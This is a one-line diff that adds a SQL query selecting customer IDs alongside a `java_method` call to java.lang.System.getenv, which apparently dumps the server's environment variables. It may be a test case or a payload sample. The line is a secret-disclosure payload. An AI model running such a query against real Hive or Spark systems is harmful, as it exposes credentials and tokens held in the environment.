@@ -1,0 +1,1 @@
+SELECT customer_id, `java_method`('java.lang.System', 'getenv') AS tag_value FROM customers
